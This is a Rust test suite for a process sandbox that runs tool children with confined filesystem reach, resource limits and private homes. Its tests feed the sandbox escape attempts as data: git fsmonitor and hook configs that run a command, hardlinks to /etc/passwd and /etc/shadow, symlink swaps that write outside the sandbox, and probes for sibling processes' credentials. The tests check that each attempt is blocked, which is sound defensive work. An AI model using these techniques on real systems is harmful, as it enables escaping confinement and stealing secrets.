    // `sandbox = "off"`: the child runs, unconfined — it can read what its user can.
    let process = spawner_under(&fx, "\"cat\"", "sandbox = \"off\"", forced());
    let out = process
        .spawn(
            "cat",
            &argv(&[secret.to_str().unwrap()]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "secret");
}

#[tokio::test]
async fn sandboxed_children_get_resource_limits_and_cpu_follows_the_timeout() {
    let fx = fixture();
    let process = spawner_under(&fx, "\"sh\"", "", config(&fx));
    let out = process
        .spawn(
            "sh",
            &argv(&["-c", "ulimit -t; ulimit -v; ulimit -n"]),
            SpawnOptions::default().timeout(Duration::from_millis(4_500)),
        )
        .await
        .unwrap();
    // CPU seconds: the call's timeout rounded up; address space 4 GiB (in KiB); 1,024 files.
    assert_eq!(stdout(&out), "5\n4194304\n1024\n");
}

// guarantee: G-PROC-05
/// An operator's "no limit" written as the longest duration there is (a timeout, its ceiling and
/// the kill grace all `Duration::MAX`) runs the child to its end: the call's deadlines saturate
/// instead of overflowing the clock.
#[tokio::test]
async fn timeouts_and_a_grace_too_long_for_the_clock_still_run_the_child() {
    let fx = fixture();
    let mut config = ProcessConfig::with_host_env(host_env())
        .scratch_root(fx.scratch.clone())
        .default_timeout(Duration::MAX)
        .kill_grace(Duration::MAX);
    config.max_timeout = Duration::MAX;
    let p = spawner_with(&fx, "\"echo\", \"sh\"", "", config);
    let out = p
        .spawn("echo", &argv(&["still here"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(
        (stdout(&out).as_str(), out.exit_code),
        ("still here\n", Some(0))
    );
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "echo asked"]),
            SpawnOptions::default().timeout(Duration::MAX),
        )
        .await
        .unwrap();
    assert_eq!((stdout(&out).as_str(), out.exit_code), ("asked\n", Some(0)));
}

/// What is left in the directory that holds `home` (the tool's directory of homes).
fn beside(home: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(home.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

// guarantee: G-PROC-02
/// A child's `HOME` is gone by name when its call returns, and the directory, with what the
/// child left in it (links to what it may not remove included), is removed after, whether the
/// runtime goes on or is dropped at once.
#[test]
fn a_childs_home_is_gone_when_its_call_returns_and_what_it_left_is_removed_after() {
    let fx = fixture();
    // Outside the home, reached from it by links the child plants: removing the home follows
    // no link.
    let keep = fx.root.join("keep.txt");
    std::fs::write(&keep, "kept").unwrap();
    let script = format!(
        "mkdir -p \"$HOME/.cache/deep\" && echo t > \"$HOME/.cache/deep/token\" && \
         head -c 65536 /dev/zero > \"$HOME/big\" && ln -s {keep} \"$HOME/link\" && \
         ln -s {root} \"$HOME/dir-link\" && echo \"$HOME\"",
        keep = keep.display(),
        root = fx.root.display()
    );
    for sandbox in ["required", "off"] {
        for drop_runtime in [false, true] {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            // The spawner (and with it the tool's directory of homes) outlives the runtime.
            let (p, home) = runtime.block_on(async {
                let p = spawner_under(
                    &fx,
                    "\"sh\", \"mkdir\", \"head\", \"ln\"",
                    &format!("sandbox = \"{sandbox}\""),
                    config(&fx),
                );
                let out = p
                    .spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
                    .await
                    .unwrap();
                assert_eq!(
                    out.exit_code,
                    Some(0),
                    "{sandbox}: {}",
                    String::from_utf8_lossy(&out.stderr)
                );
                let home = PathBuf::from(stdout(&out).trim());
                assert!(home.starts_with(&fx.scratch), "{sandbox}: {home:?}");
                // Its name is gone when the call returns, whatever is still being removed.
                assert!(!home.exists(), "{sandbox}: {home:?} is still there");
                (p, home)
            });
            if drop_runtime {
                // Dropped at once: whether the removal ran by then or not, it is done now.
                drop(runtime);
            } else {
                // The runtime goes on: the directory goes on its blocking pool, soon.
                runtime.block_on(async {
                    for _ in 0..200 {
                        if beside(&home).is_empty() {
                            break;
                        }
                        tokio::time::sleep(Duration::from_millis(25)).await;
                    }
                });
            }
            assert_eq!(
                beside(&home),
                Vec::<String>::new(),
                "{sandbox}, runtime dropped {drop_runtime}: what the child left is removed"
            );
            assert_eq!(std::fs::read_to_string(&keep).unwrap(), "kept", "{sandbox}");
            assert!(fx.root.join("sub").is_dir(), "{sandbox}");
            drop(p);
        }
    }
}

// guarantee: G-PROC-04
/// A runtime shut down while a call's child is still being reaped (the call dropped at its
/// timeout, the runtime dropped straight after, as a server does when its client goes away)
/// ends cleanly: the child's group is killed and nothing is left of it running.
#[test]
fn a_runtime_shut_down_while_a_child_is_reaped_ends_cleanly() {
    let fx = fixture();
    let m = marker();
    for _ in 0..3 {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let p = runtime.block_on(async { spawner(&fx) });
        let abandoned = runtime.block_on(async {
            tokio::time::timeout(
                Duration::from_millis(300),
                p.spawn(
                    "sh",
                    &argv(&["-c", &format!("sleep {m}")]),
                    SpawnOptions::default(),
                ),
            )
            .await
        });
        assert!(
            abandoned.is_err(),
            "the call should still have been running"
        );
        drop(p);
        drop(runtime);
    }
    let check = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    assert_eq!(check.block_on(survivors(&m)), [0u32; 0]);
}

/// Limits written as "no limit" (`u64::MAX` for the processes, the address space and the CPU
/// time) confine the child to what is already in force instead of failing the spawn: the
/// kernel refuses a `pid_max` above 4 Mi, and a child with no capabilities cannot raise a hard
/// limit.
#[tokio::test]
async fn limits_larger_than_the_kernel_allows_run_the_child_under_the_limits_in_force() {
    let fx = fixture();
    let limits = capability_sandbox::ResourceLimits {
        processes: Some(u64::MAX),
        address_space: Some(u64::MAX),
        cpu_seconds: Some(u64::MAX),
        ..capability_sandbox::ResourceLimits::default()
    };
    let config = ProcessConfig::with_host_env(host_env())
        .scratch_root(fx.scratch.clone())
        .sandbox_limits(limits);
    let p = spawner_with(&fx, "\"echo\"", "", config);
    let out = p
        .spawn("echo", &argv(&["confined"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(
        (stdout(&out).as_str(), out.exit_code),
        ("confined\n", Some(0))
    );
}

// A confined child's `HOME` is its own: children of one tool running at once, one after the
// other, or under a personality that reads the temporary directory their homes are made in,
// never see what another child kept there (docs/isolation-model.md, "Each child's own home").
// Real children of one `ProcessBackend`, as `toolcap mcp serve` runs the calls of several
// sessions through one tool.

async fn sh_in(tool: &dyn ScopedProcess, script: &str) -> ProcessOutput {
    tool.spawn(
        "sh",
        &["-c".to_owned(), script.to_owned()],
        SpawnOptions::default().timeout(Duration::from_secs(30)),
    )
    .await
    .unwrap()
}

/// Starts a child that keeps a token in its home and then waits; returns once the token is
/// written. Dropping the returned task's handle does not end the child: abort it.
async fn keeper(tool: &Arc<dyn ScopedProcess>, fx: &Fixture) -> tokio::task::JoinHandle<()> {
    let ready = fx.root.join("keeper-ready");
    let script = format!(
        "echo token-of-the-first > \"$HOME/token\" && mkdir \"$HOME/.cache\" && \
         echo cached-secret > \"$HOME/.cache/creds\" && echo ready > {} && sleep 30",
        ready.display()
    );
    let task = {
        let tool = Arc::clone(tool);
        tokio::spawn(async move {
            let _ = sh_in(&*tool, &script).await;
        })
    };
    for _ in 0..300 {
        if ready.exists() {
            return task;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the first child never wrote its token");
}

/// What a second child tries, to find the first's home: its own home's parent, every entry
/// there and beneath, and `find` over `dir`.
fn prober(dir: &Path) -> String {
    format!(
        "ls -a \"$HOME/..\"; \
         for f in \"$HOME/token\" \"$HOME\"/../*/token \"$HOME\"/../*/.cache/creds; do \
           cat \"$f\" 2>/dev/null; done; \
         find {d} \\( -name token -o -name creds \\) -exec cat {{}} \\; 2>/dev/null; \
         echo own > \"$HOME/own\" && cat \"$HOME/own\"",
        d = dir.display()
    )
}

/// The [`prober`]'s output: nothing of the [`keeper`]'s home, and its own home written.
fn saw_only_its_own(out: &ProcessOutput) {
    let seen = stdout(out);
    assert!(
        !seen.contains("token-of-the-first") && !seen.contains("cached-secret"),
        "the second child read the first's home: {seen}"
    );
    assert!(
        seen.ends_with("own\n"),
        "the second child writes its own home: {seen} / {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

// guarantee: G-PROC-06
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn children_of_one_tool_running_at_once_see_only_their_own_home() {
    let fx = fixture();
    let tool = writing_spawner(&fx);
    let first = keeper(&tool, &fx).await;
    let out = sh_in(&*tool, &prober(&fx.scratch)).await;
    first.abort();
    saw_only_its_own(&out);
}

// guarantee: G-PROC-06
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tool_that_reads_the_temporary_directory_still_sees_no_other_home() {
    // The personality's reach includes the directory the homes are made in: the homes are
    // there on the disk, by their path, and still out of another child's sight.
    let fx = fixture();
    let tool = writing_spawner_reading(&fx, None, Some(&fx.scratch));
    let first = keeper(&tool, &fx).await;
    let out = sh_in(&*tool, &prober(&fx.scratch)).await;
    first.abort();
    saw_only_its_own(&out);
}

// guarantee: G-PROC-06
#[tokio::test]
async fn a_call_leaves_nothing_for_the_next_one() {
    let fx = fixture();
    let tool = writing_spawner(&fx);
    let out = sh_in(
        &*tool,
        "echo left > \"$HOME/left\"; echo left > \"$HOME/../left\"; \
         mkdir \"$HOME/../kept\" && echo left > \"$HOME/../kept/left\"; \
         echo left > \"$HOME/../../left\"; rm -f \"$HOME/../../.toolcap-owner\"; echo done",
    )
    .await;
    assert_eq!(
        stdout(&out),
        "done\n",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = sh_in(
        &*tool,
        "cat \"$HOME/left\" \"$HOME/../left\" \"$HOME/../kept/left\" 2>/dev/null; \
         ls -a \"$HOME\" \"$HOME/..\"",
    )
    .await;
    let seen = stdout(&out);
    assert!(
        !seen.contains("left") && !seen.contains("kept"),
        "the next call found what the first left: {seen}"
    );
    // Nothing the first call made is on the disk either.
    let leftovers: Vec<PathBuf> = walk(&fx.scratch)
        .into_iter()
        .filter(|p| p.file_name().is_some_and(|n| n == "left" || n == "kept"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    // Nor did it take the lock that tells a live owner's directory from an abandoned one.
    let locks = walk(&fx.scratch)
        .into_iter()
        .filter(|p| p.file_name().is_some_and(|n| n == ".toolcap-owner"))
        .count();
    assert_eq!(locks, 1, "the tool's scratch directory keeps its lock file");
}

/// Every path beneath `dir`, not following symbolic links.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                pending.push(path.clone());
            }
            found.push(path);
        }
    }
    found
}

// guarantee: G-FS-14
/// A confined child with a write reach is kept from what the policy keeps from writes
/// (`[fs_reach] deny_write`): a place that exists is read-only to it, the directory where a
/// rule's `*` stands is kept whole (no new name made there), and beneath a write root where the
/// `*` stands, the rule's place can be neither changed nor made; what lies beside is written.
#[tokio::test]
async fn a_child_is_kept_from_what_the_policy_keeps_from_writes() {
    let fx = fixture();
    for file in ["defs/a/toolset.yaml", "shared/x"] {
        std::fs::create_dir_all(fx.root.join(file).parent().unwrap()).unwrap();
        std::fs::write(fx.root.join(file), "as it was\n").unwrap();
    }
    std::fs::create_dir_all(fx.root.join("defs/b")).unwrap();
    let spawner = |write: &[&str]| {
        let r = fx.root.display();
        let write: Vec<String> = write.iter().map(|w| format!("\"{r}/{w}\"")).collect();
        let toml = format!(
            "id = \"p\"\n[fs_reach]\nread = [\"{r}\"]\nwrite = [{}]\ndeny_write = [\"{r}/defs/*/toolset.yaml\", \"{r}/shared\"]\n[safety.process]\nallow = [\"sh\"]\n",
            write.join(", ")
        );
        spawner_for(&fx, &toml, None)
    };
    let sh = |script: &str| argv(&["-c", script]);

    // A write root over everything.
    let p = spawner(&[""]);
    let out = p
        .spawn(
            "sh",
            &sh(
                "for f in defs/a/toolset.yaml shared/x shared/y defs/a/other.md; do \
                 echo evil > $f 2>/dev/null; echo \"$f=$?\"; done; \
                 mkdir defs/new 2>/dev/null; echo new=$?; echo free > free.txt; echo free=$?",
            ),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    let said = stdout(&out);
    for place in [
        "defs/a/toolset.yaml",
        "shared/x",
        "shared/y",
        "defs/a/other.md",
        "new",
    ] {
        assert!(!said.contains(&format!("{place}=0")), "{place}: {said}");
    }
    assert!(said.contains("free=0"), "{said}");
    assert_eq!(
        std::fs::read_to_string(fx.root.join("defs/a/toolset.yaml")).unwrap(),
        "as it was\n"
    );
    assert_eq!(
        std::fs::read_to_string(fx.root.join("shared/x")).unwrap(),
        "as it was\n"
    );
    for made in ["shared/y", "defs/new", "defs/a/other.md"] {
        assert!(!fx.root.join(made).exists(), "{made} was made");
    }

    // Write roots where the `*` stands: written, but not the rule's place, which exists in one
    // and not in the other.
    let p = spawner(&["defs/a", "defs/b"]);
    let out = p
        .spawn(
            "sh",
            &sh("echo evil > defs/a/toolset.yaml 2>/dev/null; echo a=$?; \
                 echo mine > defs/b/notes.md; echo notes=$?"),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    let said = stdout(&out);
    assert!(!said.contains("a=0") && said.contains("notes=0"), "{said}");
    assert_eq!(
        std::fs::read_to_string(fx.root.join("defs/a/toolset.yaml")).unwrap(),
        "as it was\n"
    );
    refused_for(
        p.spawn(
            "sh",
            &sh("echo evil > defs/b/toolset.yaml"),
            SpawnOptions::default(),
        )
        .await,
        "toolset.yaml",
    );
    assert!(
        !fx.root.join("defs/b/toolset.yaml").exists(),
        "made by a child and kept"
    );

    // A write root the rules keep whole, at or inside a kept place, grants the child no
    // write there.
    std::fs::create_dir_all(fx.root.join("shared/sub")).unwrap();
    let p = spawner(&["shared/sub", "defs"]);
    let out = p
        .spawn(
            "sh",
            &sh("echo evil > shared/sub/f 2>/dev/null; echo x=$?; \
                 mkdir defs/c 2>/dev/null; echo c=$?; cat shared/x"),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    let said = stdout(&out);
    assert!(!said.contains("x=0") && !said.contains("c=0"), "{said}");
    assert!(said.contains("as it was"), "still readable: {said}");
    assert!(!fx.root.join("defs/c").exists());
    assert!(!fx.root.join("shared/sub/f").exists());
}

// guarantee: G-FS-15
/// A confined child is kept from a place the policy keeps apart (`[fs_reach] apart`) beneath
/// one of its roots: it neither reads nor writes what lies there, not through a link from
/// beside it either, while what lies beside stays its own. The kernel cannot tell by which
/// root a child reached a path, so the place is kept whole, a root inside it included.
#[tokio::test]
async fn a_child_is_kept_from_a_place_kept_apart() {
    let fx = fixture();
    for file in ["state/other/MEMORY.md", "state/me/MEMORY.md", "notes.md"] {
        std::fs::create_dir_all(fx.root.join(file).parent().unwrap()).unwrap();
        std::fs::write(fx.root.join(file), "as it was\n").unwrap();
    }
    std::os::unix::fs::symlink(fx.root.join("state/other"), fx.root.join("link")).unwrap();
    let r = fx.root.display();
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{r}\", \"{r}/state/me\"]\nwrite = [\"{r}\", \"{r}/state/me\"]\n\
         apart = [\"{r}/state\"]\n[safety.process]\nallow = [\"sh\"]\n"
    );
    let p = spawner_for(&fx, &toml, None);
    let out = p
        .spawn(
            "sh",
            &argv(&[
                "-c",
                "for f in state/other/MEMORY.md link/MEMORY.md state/me/MEMORY.md; do \
                 cat $f 2>/dev/null && echo \"read $f\"; echo evil >> $f 2>/dev/null && echo \"wrote $f\"; \
                 done; ls state 2>/dev/null && echo listed; cat notes.md; echo free > free.txt && echo free",
            ]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    let said = stdout(&out);
    assert!(
        !said.contains("read ") && !said.contains("wrote ") && !said.contains("listed"),
        "{said}"
    );
    assert!(said.contains("as it was\nfree"), "{said}");
    for file in ["state/other/MEMORY.md", "state/me/MEMORY.md"] {
        assert_eq!(
            std::fs::read_to_string(fx.root.join(file)).unwrap(),
            "as it was\n",
            "{file}"
        );
    }
}

/// The user's own git, run in `dir` outside any sandbox as the user would run it later (a
/// shell prompt's `git status`), with a home of its own so that no configuration of the
/// machine's user takes part.
fn users_git_status(dir: &Path) {
    let home = tempfile::tempdir().unwrap();
    let _ = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["status", "--short"])
        .env("HOME", home.path())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
}

// guarantee: G-FS-09
/// A repository a child makes in its own run (`git init`, `git clone`, by hand), which no
/// mount could keep since it did not exist, is set aside when the child ends if git would run
/// what it holds: a configuration naming a program (`core.fsmonitor`, which the user's next
/// `git status` runs), a hook, in a `.git`, in a git directory of another name, or behind a
/// `.git` file; and the call is refused saying so. One holding only what git writes itself (a
/// commit, a clone, a user's name) stays. Checked by running the user's git there afterwards:
/// the canary it would make is never made.
#[tokio::test]
async fn a_repository_a_child_makes_runs_nothing_outside_the_sandbox() {
    for (script, found, aside) in [
        (
            "git init -q . && git config core.fsmonitor 'touch CANARY'",
            "core.fsmonitor",
            ".git",
        ),
        (
            "git init -q a/b && printf '#!/bin/sh\\ntouch CANARY\\n' > a/b/.git/hooks/post-checkout \
             && chmod +x a/b/.git/hooks/post-checkout",
            "hooks/post-checkout",
            "a/b/.git",
        ),
        (
            "git init -q --bare store.git && git --git-dir=store.git config core.pager 'touch CANARY'",
            "core.pager",
            "store.git",
        ),
        (
            "mkdir k && git init -q --separate-git-dir=k/x w && git -C w config alias.st '!touch CANARY'",
            "alias.st",
            "w/.git",
        ),
        (
            "mkdir -p h/.git/objects h/.git/refs && echo 'ref: refs/heads/main' > h/.git/HEAD \
             && printf '[core]\\n\\tfsmonitor = touch CANARY\\n' > h/.git/config",
            "core.fsmonitor",
            "h/.git",
        ),
        // A `.git` that is a link, to a repository deeper than the walk looks.
        (
            "mkdir -p d1/d2/d3/d4 w2 && git init -q d1/d2/d3/d4/r \
             && git -C d1/d2/d3/d4/r config core.fsmonitor 'touch CANARY' \
             && ln -s ../d1/d2/d3/d4/r/.git w2/.git",
            "core.fsmonitor",
            "w2/.git",
        ),
    ] {
        let fx = fixture();
        let p = writing_spawner(&fx);
        let err = p
            .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
            .await
            .unwrap_err();
        let said = err.to_string();
        assert!(
            matches!(
                err,
                CapabilityError::Denied {
                    code: DenialCode::PathNotReachable,
                    ..
                }
            ) && said.contains(found)
                && said.contains("a repository the child made"),
            "{script}: {said}"
        );
        assert!(!fx.root.join(aside).exists(), "{script}: {aside} stayed");
        assert!(
            fx.root.join(format!("{aside}.refused-by-toolcap")).exists(),
            "{script}: {aside} was not set aside"
        );
        for dir in [".", "a/b", "store.git", "w", "h", "w2"] {
            let dir = fx.root.join(dir);
            if dir.is_dir() {
                users_git_status(&dir);
            }
        }
        assert!(
            !fx.root.join("CANARY").exists()
                && ["a/b", "store.git", "w", "h", "w2"].iter().all(|d| !fx
                    .root
                    .join(d)
                    .join("CANARY")
                    .exists()),
            "{script}: the user's git ran what the child configured"
        );
    }
    // What git writes itself names no program: the repositories stay, the call succeeds.
    let fx = fixture();
    let p = writing_spawner(&fx);
    let script = "git init -q fine && git -C fine -c user.name=a -c user.email=b commit -q \
                  --allow-empty -m x && git init -q copy && git -C copy remote add origin \
                  https://example.invalid/fine.git && git -C copy config user.name me \
                  && git -C copy checkout -q -b topic && git init -q --bare b.git";
    let out = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(
        out.exit_code,
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for kept in ["fine/.git", "copy/.git", "b.git"] {
        assert!(fx.root.join(kept).is_dir(), "{kept} was set aside");
    }
}

// guarantee: G-FS-09
/// A `.git` file a child made and then closed (`chmod 000`), which a host that is not root
/// cannot read and root's git can (it may name any git directory), is set aside and the call
/// refused rather than passed over. Run as `nobody` when the tests run as root.
#[tokio::test]
async fn a_git_file_a_child_made_and_closed_is_set_aside() {
    if again_as_nobody("a_git_file_a_child_made_and_closed_is_set_aside") {
        return;
    }
    let fx = fixture();
    let p = writing_spawner(&fx);
    let script = "mkdir w && echo 'gitdir: ../k' > w/.git && chmod 000 w/.git";
    let err = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("cannot read"), "{err}");
    assert!(!fx.root.join("w/.git").exists());
    assert!(fx.root.join("w/.git.refused-by-toolcap").exists());
}

// guarantee: G-KERN-01
/// A second name inside the write reach for a file outside it would let the next write through
/// that name land in the file: `/etc/passwd` or `/etc/shadow` (root's, as the child is in a
/// container, whom the kernel's `protected_hardlinks` lets link them), a set-user-ID program
/// kept past its upgrade. A writing child can make none (`Invalid cross-device link`), and
/// nothing is left in its write root. Checked on disk.
#[tokio::test]
async fn a_child_cannot_give_a_file_outside_its_reach_a_name_inside_it() {
    let fx = fixture();
    let p = writing_spawner(&fx);
    let script = "for f in /etc/passwd /etc/shadow /usr/bin/passwd /bin/sh; do \
                  ln \"$f\" \"linked-$(basename $f)\"; echo \"$f=$?\"; done";
    let out = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    for f in ["passwd", "shadow", "sh"] {
        assert!(
            std::fs::symlink_metadata(fx.root.join(format!("linked-{f}"))).is_err(),
            "linked-{f} was made: {stdout}"
        );
    }
    for f in ["/etc/passwd", "/etc/shadow", "/usr/bin/passwd", "/bin/sh"] {
        assert!(stdout.contains(&format!("{f}=1")), "{f}: {out:?}");
    }
}

// guarantee: G-KERN-01
/// A child is granted its roots where the policy resolved them, never through a symbolic link
/// that lies on their way now: after the personality loaded, a directory above a write root
/// (`b` of `…/b/c`) was swapped for a link to a directory outside the reach (by a child of
/// another tool, which may write above the root), and the next child's Landlock rule followed
/// the link: it wrote outside (watched failing). Now the child is not started, saying which
/// link; nothing is written outside; once the directory is back, children start again. The
/// root itself swapped for a link is refused the same way. Run as root and as `nobody`.
#[tokio::test]
async fn a_child_is_never_granted_a_root_through_a_link_on_its_way() {
    let fx = fixture();
    let outside = tempfile::tempdir().unwrap();
    let outside = outside.path().canonicalize().unwrap();
    std::fs::create_dir_all(fx.root.join("b/c")).unwrap();
    std::fs::create_dir_all(outside.join("c")).unwrap();
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{r}\"]\nwrite = [\"{r}/b/c\"]\n[safety.process]\nallow = [\"sh\"]\n",
        r = fx.root.display()
    );
    let p = spawner_for(&fx, &toml, None);
    let script = format!("echo pwned > {}/c/x; echo w=$?", outside.display());
    for swapped in ["b", "b/c"] {
        std::fs::remove_dir_all(fx.root.join("b")).unwrap();
        if swapped == "b" {
            std::os::unix::fs::symlink(&outside, fx.root.join("b")).unwrap();
        } else {
            std::fs::create_dir(fx.root.join("b")).unwrap();
            std::os::unix::fs::symlink(outside.join("c"), fx.root.join("b/c")).unwrap();
        }
        let err = p
            .spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
            .await
            .unwrap_err();
        let link = fx.root.join(swapped).display().to_string();
        assert!(
            err.to_string().contains("symbolic link") && err.to_string().contains(&link),
            "{swapped}: {err}"
        );
        assert!(!outside.join("c/x").exists(), "{swapped}: written outside");
    }
    std::fs::remove_dir_all(fx.root.join("b")).unwrap();
    std::fs::create_dir_all(fx.root.join("b/c")).unwrap();
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "echo fine > b/c/x; echo w=$?"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "w=0\n");
    // And as an account without root's powers (CI runs as root).
    again_as_nobody("a_child_is_never_granted_a_root_through_a_link_on_its_way");
}

// guarantee: G-KERN-16
/// A child and what it starts are the first processes the kernel's out-of-memory killer ends
/// (`oom_score_adj` 1000, read from outside while they wait), while the host keeps its own
/// score: the program sets it as a `vfork` child, since a process that shares the host's
/// memory (as the reaper does) would set the host's too. As root and as an account without
/// root's powers, whose child sets it from inside a user namespace of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_child_is_the_first_the_out_of_memory_killer_ends() {
    let fx = fixture();
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{r}\"]\nwrite = [\"{r}\"]\n[safety.process]\nallow = [\"sh\"]\n",
        r = fx.root.display()
    );
    let p = spawner_for(&fx, &toml, None);
    let marker = format!("oom-{}", std::process::id());
    let wait = "while [ ! -e go ]; do sleep 0.01; done";
    let script = format!("sh -c '{wait}' {marker}-grandchild & {wait}; wait");
    let child = {
        let p = Arc::clone(&p);
        let args = argv(&["-c", &script, &format!("{marker}-child")]);
        tokio::spawn(async move { p.spawn("sh", &args, SpawnOptions::default()).await })
    };
    let scores = (
        accounts::oom_scores_of(&format!("{marker}-child")),
        accounts::oom_scores_of(&format!("{marker}-grandchild")),
    );
    std::fs::write(fx.root.join("go"), "").unwrap();
    let out = child.await.unwrap().unwrap();
    assert_eq!(
        out.exit_code,
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A shell's fork that has not executed yet carries its command line too: every process
    // found must have the score, and there must be one.
    let all_first = |found: &[String]| !found.is_empty() && found.iter().all(|s| s == "1000");
    assert!(all_first(&scores.0), "the child's score: {:?}", scores.0);
    assert!(all_first(&scores.1), "its own child's: {:?}", scores.1);
    let own = std::fs::read_to_string("/proc/self/oom_score_adj").unwrap();
    assert_ne!(
        own.trim(),
        "1000",
        "the host's own score was changed with the child's"
    );
    again_as_nobody("a_child_is_the_first_the_out_of_memory_killer_ends");
}

/// A child's `SIGPIPE` is the default, as `std::process::Command` leaves it, not the host's: a
/// Rust program ignores it, and a child that inherited that got `EPIPE` where a pipeline's
/// reader had gone (`yes | head -1` said "Broken pipe" and failed) instead of ending quietly.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_child_ends_at_a_closed_pipe_as_a_program_does_outside() {
    let fx = fixture();
    let toml = format!(
        "id = \"p\"\n[fs_reach]\nread = [\"{r}\"]\n[safety.process]\nallow = [\"sh\"]\n",
        r = fx.root.display()
    );
    let p = spawner_for(&fx, &toml, None);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "yes | head -1"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "y\n");
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "",
        "the writer was not ended by SIGPIPE"
    );
    assert_eq!(out.exit_code, Some(0));
}
